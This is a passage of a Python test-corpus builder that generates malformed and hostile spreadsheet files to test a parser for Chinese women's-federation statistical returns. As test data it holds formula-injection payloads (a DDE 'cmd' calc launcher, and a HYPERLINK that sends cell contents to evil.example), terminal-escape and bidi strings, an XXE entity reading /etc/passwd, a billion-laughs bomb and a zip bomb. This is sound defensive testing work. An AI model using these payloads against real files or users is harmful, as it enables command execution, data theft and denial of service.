"""The hostile-return corpus: odd and hostile FL-01 files, built deterministically.

``build(folder)`` writes every case into ``folder`` and returns the cases; each
says what ``huizong returns parse --json`` must do with it — read it (exit 0,
strict JSON) and, for most, which figures come out and which cells are named as
problems — or refuse it (exit 2, one line). ``test_corpus_cli.py`` runs every
file through the real command in a child process under a CPU and memory limit.
A few real-world-shaped files are committed under ``files/`` and join the corpus.

Run ``python tests/hostile/build_corpus.py DIR`` to look at the files by hand.

Classes (issue #15 and the earlier rounds): non-finite and overflowing numbers
in sheet XML; formula text and real formulas in names, labels, figures and
notes; control and bidirectional characters (raw, and Excel's ``_x001B_``
escapes); HTML tables saved as .xls by OA systems; hundreds of sheets; CSV
fields past the csv module's limit; future periods; two-row headers; huge
numbers; and the refusals (empty, truncated, bombs, entities, encryption …).
"""

from __future__ import annotations

import csv
import io
import random
import re
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "returns"))

from fl01_builders import (  # noqa: E402
    HEADER,
    SheetSpec,
    compound_file,
    known_values,
    standard_sheet_rows,
    table_rows,
    xlsx_bytes,
)

COMMITTED = HERE / "files"
UNIT_CODE, UNIT_NAME = "621228101000", "站儿巷镇妇联"
IDENTITY = f"填报单位（盖章）：{UNIT_NAME}  单位代码：{UNIT_CODE}  统计期：2024年第四季度"
VALUES = known_values()

Check = Callable[[dict[str, Any]], None]


@dataclass
class Case:
    name: str  # the file name written into the corpus folder
    data: bytes
    expect: str  # "ok" | "refused" | "either" (damaged at random: any clean outcome)
    check: Check | None = None  # more assertions on the JSON of an "ok" file
    refusal: str | None = None  # a fragment the one-line refusal must hold
    why: str = ""


# --------------------------------------------------------------------------- checks


def figures(*codes: str, skip: tuple[tuple[str, str], ...] = ()) -> Check:
    """The rows ``codes`` carry the builder's known values (``skip``: (code, column))."""

    def check(doc: dict[str, Any]) -> None:
        for code in codes:
            for column, expected in VALUES[code].items():
                if (code, column) in skip:
                    continue
                assert doc["rows"][code][column] == expected, (code, column, doc["rows"][code])

    return check


def problem(cell: str, row: str | None, column: str, fragment: str = "") -> Check:
    """A problem names exactly this cell, row and column (and says ``fragment``)."""

    def check(doc: dict[str, Any]) -> None:
        found = [
            p
            for p in doc["problems"]
            if p["cell"] == cell and p["row"] == row and p["column"] == column
        ]
        assert found, (cell, row, column, doc["problems"])
        assert any(fragment in p["message"] for p in found), (fragment, found)
        if row is not None:
            assert row in doc["problem_rows"]

    return check


def value_is(code: str, column: str, expected: Any) -> Check:
    def check(doc: dict[str, Any]) -> None:
        assert doc["rows"][code][column] == expected, (code, column, doc["rows"][code])

    return check


def field_is(key: str, expected: Any) -> Check:
    def check(doc: dict[str, Any]) -> None:
        assert doc[key] == expected, (key, doc[key])

    return check


def no_problems_but(*cells: str) -> Check:
    def check(doc: dict[str, Any]) -> None:
        assert {p["cell"] for p in doc["problems"]} <= set(cells), doc["problems"]

    return check


def all_of(*checks: Check) -> Check:
    def check(doc: dict[str, Any]) -> None:
        for one in checks:
            one(doc)

    return check


ALL_CODES = tuple(VALUES)
ALL_FIGURES = figures(*ALL_CODES)


# --------------------------------------------------------------------------- xlsx


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in members.items():
            zf.writestr(name, body)
    return out.getvalue()


def good_xlsx(rows: list[list[Any]] | None = None, name: str = "Sheet1") -> bytes:
    return xlsx_bytes(SheetSpec(name, rows if rows is not None else standard_sheet_rows()))


def patch_sheet(data: bytes, transform: Callable[[str], str], member: str = "") -> bytes:
    members = _members(data)
    member = member or "xl/worksheets/sheet1.xml"
    members[member] = transform(members[member].decode()).encode()
    return _zip(members)


def set_cell(data: bytes, ref: str, cell_xml: str) -> bytes:
    """Replace the <c> at ``ref`` by ``cell_xml`` (``{ref}`` is filled in)."""

    def transform(xml: str) -> str:
        new, count = re.subn(
            rf'<c r="{ref}"(?:[^>]*/>|[^>]*>.*?</c>)', cell_xml.format(ref=ref), xml, count=1
        )
        assert count == 1, ref
        return new

    return patch_sheet(data, transform)


def numeric_cell(text: str) -> str:
    return '<c r="{ref}" t="n"><v>' + text + "</v></c>"


def string_cell(text: str) -> str:
    return '<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">' + _xml(text) + "</t></is></c>"


def _xml(text: str) -> str:
    return escape(text).replace("{", "{{").replace("}", "}}")


def separate_identity_rows(
    name: str = UNIT_NAME, period: str = "2024年第四季度"
) -> list[list[Any]]:
    """Identity in its own cells: B2 name, D2 code, F2 period."""
    return [
        ["基层妇联工作情况统计表"],
        ["填报单位：", name, "单位代码：", UNIT_CODE, "统计期：", period],
        HEADER,
        *table_rows(),
    ]


def with_unit_name_cell(cell_xml: str) -> bytes:
    """A workbook whose 填报单位 value cell (B2) is ``cell_xml``."""
    return set_cell(good_xlsx(separate_identity_rows("ZZNAME")), "B2", cell_xml)


# --------------------------------------------------------------------------- csv / html


def csv_bytes(rows: list[list[Any]], encoding: str = "utf-8-sig") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow(["" if v is None else v for v in row])
    return out.getvalue().encode(encoding)


def standard_csv_rows(identity: str = IDENTITY) -> list[list[Any]]:
    return standard_sheet_rows(identity)


def oa_html(
    rows_html: str, *, charset: str = "gb2312", title: str = "基层妇联工作情况统计表"
) -> str:
    """An HTML table as OA systems and Excel's "Save as Web page" write it."""
    return (
        '<html xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:x="urn:schemas-microsoft-com:office:excel" '
        'xmlns="http://www.w3.org/TR/REC-html40">\r\n<head>\r\n'
        f'<meta http-equiv="Content-Type" content="text/html; charset={charset}">\r\n'
        '<meta name="ProgId" content="Excel.Sheet">\r\n'
        "<!--[if gte mso 9]><xml><x:ExcelWorkbook><x:ExcelWorksheets><x:ExcelWorksheet>"
        "<x:Name>FL-01</x:Name></x:ExcelWorksheet></x:ExcelWorksheets></x:ExcelWorkbook>"
        "</xml><![endif]-->\r\n"
        '<style>td{mso-number-format:General;} .xl65{mso-number-format:"0\\.00";}</style>'
        "</head>\r\n<body>\r\n"
        '<table border="0" cellpadding="0" cellspacing="0" style="border-collapse:collapse">\r\n'
        f'<tr><td colspan="7" class="xl66">{title}</td></tr>\r\n'
        f'<tr><td colspan="7">{escape(IDENTITY)}</td></tr>\r\n'
        f"{rows_html}</table>\r\n</body>\r\n</html>\r\n"
    )


def _td(value: Any) -> str:
    if value is None:
        return "<td></td>"
    if isinstance(value, int | float):
        shown = f"{value:,}" if isinstance(value, int) else f"{value:,.2f}"
        return f'<td x:num="{value}" class="xl65">{shown}</td>'
    return f"<td>{escape(str(value))}</td>"


def html_table_rows(header_html: str | None = None) -> str:
    header = header_html or "<tr>" + "".join(f"<td>{h}</td>" for h in HEADER) + "</tr>\r\n"
    body = "".join("<tr>" + "".join(_td(v) for v in row) + "</tr>\r\n" for row in table_rows())
    return header + body


TWO_ROW_HTML_HEADER = (
    '<tr><td rowspan="2">指标名称</td><td rowspan="2">计量单位</td><td rowspan="2">代码</td>'
    '<td colspan="2">本年</td><td>上年</td><td rowspan="2">备注</td></tr>\r\n'
    "<tr><td>本期数</td><td>累计数</td><td>同期数</td></tr>\r\n"
)


# --------------------------------------------------------------------------- cases

FORMULA_TEXTS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "dde_cmd": "=cmd|' /C calc'!A0",
    "at_sum": "@SUM(1)",
    "plus": "+1+1",
    "minus": "-2+3",
    "tab_led": "\t=1+1",
    "cr_led": "\r=1+1",
    "fullwidth_eq": "＝1+1",
    "space_led": "  =1+1",
}

CONTROL_NAMES = {
    "esc_sequence": "站儿巷镇\x1b[31m妇联\x1b[0m",
    "bel_bs": "站儿巷镇\x07\x08\x08妇联",
    "nel": "站儿巷镇\x85妇联",
    "rlo": "站儿巷镇\u202e联妇",
    "isolates": "\u2066站儿巷镇\u2067妇联\u2069\u2068",
    "osc_title": "站儿巷镇妇联\x1b]0;pwned\x07",
    "c1_csi": "站儿巷镇\x9b31m妇联",
    "line_separator": "站儿巷镇\u2028妇联",
}


def _nonfinite_cases() -> list[Case]:
    cases = []
    tokens = {
        "nan": ("NaN", "D4", "01", "current"),
        "inf": ("INF", "E5", "02", "ytd"),
        "minus_inf": ("-INF", "F6", "03", "last_year"),
        "overflow": ("1E+400", "D7", "04", "current"),
        "overflow_negative": ("-1E+400", "E8", "05", "ytd"),
        "max_double": ("1e308", "F9", "06", "last_year"),
        "lower_nan": ("nan", "D10", "07", "current"),
        "infinity_word": ("Infinity", "D11", "08", "current"),
        "five_thousand_digits": ("9" * 5000, "D12", "09", "current"),
        "not_a_number": ("12a", "D14", "11", "current"),
        "empty_v": ("", "D15", "12", "current"),
        "thirty_digits": ("123456789012345678901234567890", "D16", "13", "current"),
    }
    for name, (token, ref, code, column) in tokens.items():
        data = set_cell(good_xlsx(), ref, numeric_cell(token))
        others = tuple(c for c in ALL_CODES if c != code)
        checks = [figures(*others)]
        if token:
            checks.append(problem(f"Sheet1!{ref}", code, column))
            checks.append(value_is(code, column, None))
        cases.append(Case(f"xlsx_number_{name}.xlsx", data, "ok", all_of(*checks), why=token))
    # several at once, and NaN in the unit-code cell
    data = good_xlsx()
    for ref, token in (("D4", "NaN"), ("D5", "INF"), ("D6", "-INF"), ("D7", "1E+400")):
        data = set_cell(data, ref, numeric_cell(token))
    cases.append(
        Case(
            "xlsx_number_four_at_once.xlsx",
            data,
            "ok",
            all_of(*(problem(f"Sheet1!D{4 + i}", f"0{1 + i}", "current") for i in range(4))),
        )
    )
    data = set_cell(good_xlsx(separate_identity_rows()), "D2", numeric_cell("NaN"))
    cases.append(
        Case(
            "xlsx_number_nan_unit_code.xlsx",
            data,
            "ok",
            all_of(field_is("unit_code", None), problem("Sheet1!D2", None, "unit_code")),
        )
    )
    return cases


def _formula_cases() -> list[Case]:
    cases = []
    for key, text in FORMULA_TEXTS.items():
        cases.append(
            Case(
                f"xlsx_formula_text_unit_name_{key}.xlsx",
                with_unit_name_cell(string_cell(text)),
                "ok",
                all_of(ALL_FIGURES, field_is("unit_code", UNIT_CODE)),
                why="formula-looking unit name, a string cell",
            )
        )
        rows = separate_identity_rows(text)
        cases.append(
            Case(
                f"csv_formula_text_unit_name_{key}.csv",
                csv_bytes(rows),
                "ok",
                all_of(ALL_FIGURES, field_is("unit_code", UNIT_CODE)),
            )
        )
    # formula text in figure cells: never a number
    for key, (text, ref, code, column) in {
        "eq": ("=1+1", "D4", "01", "current"),
        "plus": ("+1+1", "E5", "02", "ytd"),
        "minus": ("-2+3", "F6", "03", "last_year"),
        "at": ("@SUM(1)", "D7", "04", "current"),
        "tab": ("\t=1+1", "D8", "05", "current"),
        "dde": ("=cmd|' /C calc'!A0", "D9", "06", "current"),
    }.items():
        check = all_of(problem(f"Sheet1!{ref}", code, column), value_is(code, column, None))
        data = set_cell(good_xlsx(), ref, string_cell(text))
        cases.append(Case(f"xlsx_formula_text_figure_{key}.xlsx", data, "ok", check))
        rows = standard_csv_rows()
        r, c = int(ref[1:]) - 1, "ABCDEFG".index(ref[0])
        rows[r][c] = text
        stem = f"站儿巷镇_{key}"
        csv_check = all_of(problem(f"{stem}!{ref}", code, column), value_is(code, column, None))
        cases.append(Case(f"{stem}.csv", csv_bytes(rows), "ok", csv_check))
    # formula text in the note column and as an unknown row label
    rows = standard_sheet_rows()
    rows[3][6] = '=HYPERLINK("http://evil.example/","备注")'
    rows.append(["=cmd|' /C calc'!A0", "个", None, 5, 50, 105, "@SUM(1)"])
    cases.append(
        Case("csv_formula_in_note_and_label.csv", csv_bytes(rows), "ok",
             all_of(ALL_FIGURES, problem(f"csv_formula_in_note_and_label!A{len(rows)}", None,
                                         "code")))
    )  # fmt: skip
    # real formulas: a numeric saved result is read and flagged; anything else is not read
    spec = SheetSpec("Sheet1", standard_sheet_rows(), formulas={"E4": ("D4*10", 10)})
    spec.rows[3][4] = None
    cases.append(
        Case("xlsx_real_formula_numeric_result.xlsx", xlsx_bytes(spec), "ok",
             all_of(ALL_FIGURES, problem("Sheet1!E4", "01", "ytd", "never recalculated")))
    )  # fmt: skip
    for key, cell_xml in {
        "text_result": '<c r="{ref}" t="str"><f>HYPERLINK("http://evil.example/","10")</f>'
        "<v>10</v></c>",
        "error_result": '<c r="{ref}" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
        "bool_result": '<c r="{ref}" t="b"><f>TRUE()</f><v>1</v></c>',
        "no_result": '<c r="{ref}"><f>D4*10</f></c>',
        "nan_result": '<c r="{ref}"><f>D4*10</f><v>NaN</v></c>',
        "dde_result": "<c r=\"{ref}\"><f>cmd|' /C calc'!A0</f><v>0</v></c>",
    }.items():
        check = all_of(
            figures(*ALL_CODES[1:]), problem("Sheet1!E4", "01", "ytd"),
        )  # fmt: skip
        if key != "dde_result":
            check = all_of(check, value_is("01", "ytd", None))
        cases.append(
            Case(f"xlsx_real_formula_{key}.xlsx", set_cell(good_xlsx(), "E4", cell_xml), "ok",
                 check)
        )  # fmt: skip
    unit_formula = (
        '<c r="{ref}" t="str"><f>HYPERLINK("http://evil.example/","站儿巷镇妇联")</f>'
        "<v>站儿巷镇妇联</v></c>"
    )
    cases.append(
        Case("xlsx_real_formula_unit_name.xlsx", with_unit_name_cell(unit_formula), "ok",
             all_of(ALL_FIGURES, field_is("unit_name", None),
                    problem("Sheet1!B2", None, "unit_name", "formula")))
    )  # fmt: skip
    return cases


def _control_cases() -> list[Case]:
    cases = []
    for key, name in CONTROL_NAMES.items():
        cases.append(
            Case(f"csv_control_unit_name_{key}.csv", csv_bytes(separate_identity_rows(name)), "ok",
                 all_of(ALL_FIGURES, field_is("unit_code", UNIT_CODE)))
        )  # fmt: skip
    for key in ("nel", "rlo", "isolates", "line_separator"):  # legal raw in XML 1.0
        cases.append(
            Case(f"xlsx_control_unit_name_{key}.xlsx",
                 with_unit_name_cell(string_cell(CONTROL_NAMES[key])), "ok", ALL_FIGURES)
        )  # fmt: skip
    escaped = {
        "x001b_escape": "站儿巷镇_x001B_[31m妇联_x001B_[0m",
        "x0007_x0008": "站儿巷镇_x0007__x0008_妇联",
        "x202e_escape": "站儿巷镇_x202E_联妇",
        "x005f_literal": "站儿巷镇_x005F_x001B_妇联",
    }
    for key, text in escaped.items():
        cases.append(
            Case(f"xlsx_control_unit_name_{key}.xlsx", with_unit_name_cell(string_cell(text)),
                 "ok", ALL_FIGURES)
        )  # fmt: skip
    # the escape in a shared string (what Excel itself writes), in a label and in a note
    members = _members(good_xlsx(separate_identity_rows("ZZNAME")))
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    sheet = re.sub(r'<c r="B2"[^>]*>.*?</c>', '<c r="B2" t="s"><v>0</v></c>', sheet, count=1)
    members["xl/worksheets/sheet1.xml"] = sheet.encode()
    members["xl/sharedStrings.xml"] = (
        '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
        'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><r><t>站儿巷镇_x001B_[2J</t></r>'
        "<r><t>妇联\u202e</t></r><rPh><t>フリガナ</t></rPh></si></sst>"
    ).encode()
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    members["xl/_rels/workbook.xml.rels"] = members["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdSS" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    )
    cases.append(
        Case("xlsx_control_shared_string.xlsx", _zip(members), "ok",
             all_of(ALL_FIGURES, field_is("unit_name", "站儿巷镇[2J妇联")))
    )  # fmt: skip
    rows = standard_sheet_rows()
    rows[3][0] = "村（社区）\u202e妇联\u2066组织数"  # bidi inside a known label: still row 01
    rows[3][6] = "备注\x1b[31m红字\x07\x85"
    cases.append(Case("csv_control_in_label_and_note.csv", csv_bytes(rows), "ok", ALL_FIGURES))
    members = _members(good_xlsx())
    members["xl/workbook.xml"] = members["xl/workbook.xml"].replace(
        b'name="Sheet1"', 'name="FL\u202e10-\u2066表"'.encode()
    )
    cases.append(Case("xlsx_control_sheet_name.xlsx", _zip(members), "ok", ALL_FIGURES))
    cases.append(
        Case("xlsx_raw_esc_in_xml.xlsx", with_unit_name_cell(string_cell("站\x1b[31m")),
             "refused", refusal="cannot be read", why="raw ESC is not XML; refused as damaged")
    )  # fmt: skip
    return cases


def _html_cases() -> list[Case]:
    cases = [
        Case("oa_export_gbk.xls", oa_html(html_table_rows()).encode("gbk"), "ok",
             all_of(ALL_FIGURES, field_is("unit_code", UNIT_CODE), field_is("period", "2024Q4"),
                    field_is("unit_name", UNIT_NAME))),
        Case("oa_export_utf8.xls", oa_html(html_table_rows(), charset="utf-8").encode(), "ok",
             ALL_FIGURES),
        Case("oa_export_utf8_bom.xls",
             b"\xef\xbb\xbf" + oa_html(html_table_rows(), charset="utf-8").encode(), "ok",
             ALL_FIGURES),
        Case("oa_export_no_charset_gbk.xls",
             oa_html(html_table_rows(), charset="x-unknown").encode("gbk"), "ok", ALL_FIGURES),
        Case("oa_export_two_row_header.xls",
             oa_html(html_table_rows(TWO_ROW_HTML_HEADER)).encode("gbk"), "ok", ALL_FIGURES),
        Case("oa_bare_table.xls",
             ("<table><tr><td>" + escape(IDENTITY) + "</td></tr>" + html_table_rows()
              + "</table>").encode("gb18030"), "ok", ALL_FIGURES),
        Case("oa_xml_declared.xls",
             ('<?xml version="1.0" encoding="gb2312"?>\n' + oa_html(html_table_rows()))
             .encode("gbk"), "ok", ALL_FIGURES),
        Case("html_without_table.xls",
             b"<html><head><meta charset=gb2312></head><body>\xc4\xe3\xba\xc3</body></html>",
             "refused", refusal="web page"),
        Case("html_table_not_fl01.xls",
             oa_html("<tr><td>姓名</td><td>电话</td></tr><tr><td>张三</td><td>1</td></tr>")
             .encode("gbk"), "refused", refusal="web page"),
        Case("html_named_xlsx.xlsx", b"<html><body>not a workbook</body></html>", "refused",
             refusal="web page"),
    ]  # fmt: skip
    # Excel's export of formula cells: x:fmla beside the shown result
    with_formulas = html_table_rows().replace(
        '<td x:num="10" class="xl65">10</td>',
        '<td x:num="10" x:fmla="=D4*10" class="xl65">10</td>', 1,
    ).replace(
        '<td x:num="102" class="xl65">102</td>',
        '<td x:str="点我" x:fmla="=HYPERLINK(&quot;http://e.example&quot;,&quot;点我&quot;)">'
        "点我</td>", 1,
    )  # fmt: skip
    cases.append(
        Case("oa_export_formula_cells.xls", oa_html(with_formulas).encode("gbk"), "ok",
             all_of(figures(*ALL_CODES[2:]), value_is("01", "ytd", 10),
                    value_is("02", "last_year", None),
                    problem("oa_export_formula_cells#1!E4", "01", "ytd", "never recalculated"),
                    problem("oa_export_formula_cells#1!F5", "02", "last_year")))
    )  # fmt: skip
    # formula text and controls inside the HTML export
    rows_html = html_table_rows().replace(
        "<td>村（社区）妇联组织数</td>", "<td>村（社区）妇联组织数\u202e</td>", 1
    )
    hostile = oa_html(rows_html).replace(
        escape(IDENTITY), escape(IDENTITY.replace(UNIT_NAME, '=HYPERLINK("http://e.example")'))
    )
    cases.append(Case("oa_export_hostile_text.xls", hostile.encode("gb18030"), "ok", ALL_FIGURES))
    return cases


def _many_sheets_xlsx(count: int, fl01_at: int, active: int | None) -> bytes:
    decoy = [["说明"], ["本表请按要求填写"], ["序号", "内容"], [1, "无"]]
    sheets = [SheetSpec(f"附表{i + 1}", decoy) for i in range(count)]
    sheets[fl01_at] = SheetSpec("FL-01", standard_sheet_rows())
    data = xlsx_bytes(*sheets)
    if active is not None:
        members = _members(data)
        workbook = members["xl/workbook.xml"].decode()
        workbook = re.sub(r'activeTab="\d+"', "", workbook)
        workbook = workbook.replace("<workbookView", f'<workbookView activeTab="{active}"', 1)
        members["xl/workbook.xml"] = workbook.encode()
        data = _zip(members)
    return data


def _sheets_cases() -> list[Case]:
    return [
        Case("xlsx_300_sheets_fl01_last_active.xlsx", _many_sheets_xlsx(300, 299, 299), "ok",
             all_of(ALL_FIGURES, field_is("period", "2024Q4"))),
        Case("xlsx_120_sheets_fl01_middle_active.xlsx", _many_sheets_xlsx(120, 77, 77), "ok",
             ALL_FIGURES),
        Case("xlsx_70_sheets_fl01_first.xlsx", _many_sheets_xlsx(70, 0, None), "ok",
             ALL_FIGURES),
    ]  # fmt: skip


def _csv_field_cases() -> list[Case]:
    cases = []
    for size in (131_073, 400_000, 3_000_000):
        rows = standard_sheet_rows()
        rows[5][6] = "说明" + "很长的备注，" * (size // 6) + '\n第二行 "引号"'
        cases.append(
            Case(f"csv_long_note_{size}.csv", csv_bytes(rows), "ok", ALL_FIGURES,
                 why="备注 longer than the csv module's default field limit")
        )  # fmt: skip
    rows = standard_sheet_rows()
    rows[3][3] = "9" * 100_000
    cases.append(
        Case("csv_100000_digits.csv", csv_bytes(rows), "ok",
             all_of(problem("csv_100000_digits!D4", "01", "current"),
                    value_is("01", "current", None)))
    )  # fmt: skip
    rows = standard_sheet_rows()
    rows[3][3] = "９" * 5000
    rows[4][3] = "1e400"
    rows[5][3] = "NaN"
    rows[6][3] = "-INF"
    cases.append(
        Case("csv_odd_numbers.csv", csv_bytes(rows), "ok",
             all_of(*(problem(f"csv_odd_numbers!D{r}", f"0{r - 3}", "current")
                      for r in (4, 5, 6, 7))))
    )  # fmt: skip
    rows = standard_sheet_rows()
    rows[3][0] = "村（社区）妇联组织数" * 20_000
    cases.append(Case("csv_huge_label.csv", csv_bytes(rows), "ok", figures(*ALL_CODES[1:])))
    return cases


def _period_cases() -> list[Case]:
    future = IDENTITY.replace("2024年第四季度", "2099年第1季度")
    return [
        Case("xlsx_period_2099.xlsx", good_xlsx(standard_sheet_rows(future)), "ok",
             all_of(field_is("period", None), problem("Sheet1!A2", None, "period", "2099Q1"),
                    ALL_FIGURES)),
        Case("csv_period_2099.csv", csv_bytes(standard_sheet_rows(future)), "ok",
             all_of(field_is("period", None), problem("csv_period_2099!A2", None, "period"))),
        Case("xlsx_period_2099_cell.xlsx",
             good_xlsx(separate_identity_rows(period="2099年第1季度")), "ok",
             all_of(field_is("period", None), problem("Sheet1!F2", None, "period"))),
        Case("xlsx_period_year_2090.xlsx",
             good_xlsx(standard_sheet_rows(IDENTITY.replace("2024年第四季度", "2090年度"))),
             "ok", all_of(field_is("period", None), problem("Sheet1!A2", None, "period"))),
        Case("xlsx_period_missing.xlsx",
             good_xlsx(standard_sheet_rows(IDENTITY.replace("统计期：2024年第四季度", ""))),
             "ok", all_of(field_is("period", None), problem("Sheet1!A1", None, "period"))),
    ]  # fmt: skip


def _two_row_rows(merged: bool) -> list[list[Any]]:
    upper = ["指标名称", "计量单位", "代码", "本年", None if merged else "本年", "上年", "备注"]
    lower = [None, None, None, "本期数", "累计数", "同期数", None]
    return [["基层妇联工作情况统计表"], [IDENTITY], upper, lower, *table_rows()]


def _header_cases() -> list[Case]:
    merged = SheetSpec(
        "Sheet1", _two_row_rows(True), merges=["D3:E3", "A3:A4", "B3:B4", "C3:C4", "G3:G4"]
    )
    only_last = _two_row_rows(False)
    only_last[2][3:5] = ["本期数", "本年累计数"]
    only_last[3][3:5] = [None, None]
    return [
        Case("xlsx_two_row_header_merged.xlsx", xlsx_bytes(merged), "ok", ALL_FIGURES),
        Case("csv_two_row_header.csv", csv_bytes(_two_row_rows(False)), "ok", ALL_FIGURES),
        Case("csv_two_row_header_only_last_year.csv", csv_bytes(only_last), "ok", ALL_FIGURES),
    ]  # fmt: skip


_BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row><c t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
)
_XXE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row><c t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>'
)


def _refusal_cases() -> list[Case]:
    good = good_xlsx()
    rng = random.Random(15)
    members = _members(good)
    bomb = dict(members)
    bomb["xl/worksheets/sheet1.xml"] = members["xl/worksheets/sheet1.xml"][:-20] + (
        b" " * (80 * 2**20) + members["xl/worksheets/sheet1.xml"][-20:]
    )
    word = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"})
    no_types = dict(members)
    no_types["[Content_Types].xml"] = b"<Types/>"
    utf16_laughs = _BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b"").decode()
    return [
        Case("empty.xlsx", b"", "refused", refusal="empty"),
        Case("truncated.xlsx", good[: len(good) // 2], "refused", refusal="truncated"),
        Case("random_bytes.xlsx", bytes(rng.randrange(256) for _ in range(4096)), "refused"),
        Case("pdf_named.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "refused",
             refusal="PDF"),
        Case("zip_bomb.xlsx", _zip(bomb), "refused", refusal="zip bomb"),
        Case("billion_laughs.xlsx",
             patch_sheet(good, lambda xml: _BILLION_LAUGHS.decode()), "refused",
             refusal="entities"),
        Case("xxe.xlsx", patch_sheet(good, lambda xml: _XXE.decode()), "refused",
             refusal="entities"),
        Case("billion_laughs_utf16_styles.xlsx",
             _zip({**members, "xl/styles.xml": utf16_laughs.encode("utf-16-le")}), "refused",
             refusal="entities"),
        Case("word_document.xlsx", word, "refused", refusal="Word"),
        Case("content_types_empty.xlsx", _zip(no_types), "refused", refusal="Content_Types"),
        Case("encrypted.xlsx",
             compound_file({"EncryptionInfo": b"\x04\x00\x04\x00" * 64,
                            "EncryptedPackage": b"\x9a" * 6000}), "refused",
             refusal="password"),
        Case("ole_without_workbook.xls", compound_file({"WordDocument": b"x" * 5000}),
             "refused", refusal="no Excel workbook"),
        Case("ole_garbage_workbook.xls", compound_file({"Workbook": b"garbage" * 1000}),
             "refused", refusal="damaged"),
        Case("ole_magic_only.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
             "refused"),
        Case("csv_binary_noise.csv", b"\x00\xff\xfe" * 300, "refused"),
        Case("email_text.xlsx", "这是一封邮件，不是表格。".encode(), "refused",
             refusal="not a workbook"),
        Case("csv_no_table.csv", b"a,b,c\n1,2,3\n", "refused", refusal="FL-01"),
        Case("oversized.csv", b"a," * (11 * 2**20), "refused", refusal="larger than a return"),
        Case("damaged_sheet_xml.xlsx",
             patch_sheet(good, lambda xml: xml[: len(xml) // 2]), "refused",
             refusal="cannot be read"),
        Case("spreadsheetml_2003.xls",
             b'<?xml version="1.0"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:'
             b'spreadsheet"><Worksheet/></Workbook>', "refused", refusal="XML"),
    ]  # fmt: skip


def _xls_bytes(sheets: list[tuple[str, list[list[Any]]]], active: int = 0) -> bytes:
    import xlwt  # a dev dependency (requirements-dev.lock), as for the .xls samples

    workbook = xlwt.Workbook(encoding="utf-8")
    for index, (name, rows) in enumerate(sheets):
        ws = workbook.add_sheet(name)
        ws.set_selected(index == active)
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                if value is not None:
                    ws.write(r, c, value)
    workbook.active_sheet = active
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _xls_cases() -> list[Case]:
    decoy = [["说明"], ["本表请按要求填写"], ["序号", "内容"], [1, "无"]]
    many = [(f"附表{i + 1}", decoy) for i in range(149)] + [("FL-01", standard_sheet_rows())]
    odd = standard_sheet_rows()
    odd[3][3] = float("nan")
    odd[4][4] = float("inf")
    odd[5][5] = float("-inf")
    odd[6][3] = 1e308
    hostile = separate_identity_rows("=cmd|' /C calc'!A0\x1b[31m\u202e")
    hostile[3][6] = "@SUM(1)\x07"
    hostile[4][3] = "-2+3"
    return [
        Case("xls_150_sheets_fl01_last_active.xls", _xls_bytes(many, active=149), "ok",
             all_of(ALL_FIGURES, field_is("period", "2024Q4"))),
        Case("xls_non_finite_numbers.xls", _xls_bytes([("Sheet1", odd)]), "ok",
             all_of(figures(*ALL_CODES[4:]),
                    problem("Sheet1!D4", "01", "current"), problem("Sheet1!E5", "02", "ytd"),
                    problem("Sheet1!F6", "03", "last_year"), problem("Sheet1!D7", "04", "current"),
                    value_is("01", "current", None))),
        Case("xls_formula_and_control_text.xls", _xls_bytes([("Sheet1", hostile)]), "ok",
             all_of(figures(*ALL_CODES[2:]), problem("Sheet1!D5", "02", "current"),
                    field_is("unit_code", UNIT_CODE))),
    ]  # fmt: skip


_STRICT = {
    b"http://schemas.openxmlformats.org/spreadsheetml/2006/main": (
        b"http://purl.oclc.org/ooxml/spreadsheetml/main"
    ),
    b"http://schemas.openxmlformats.org/officeDocument/2006/relationships": (
        b"http://purl.oclc.org/ooxml/officeDocument/relationships"
    ),
}


def _strict_ooxml(data: bytes) -> bytes:
    members = _members(data)
    for name in members:
        if name.startswith("xl/"):
            for old, new in _STRICT.items():
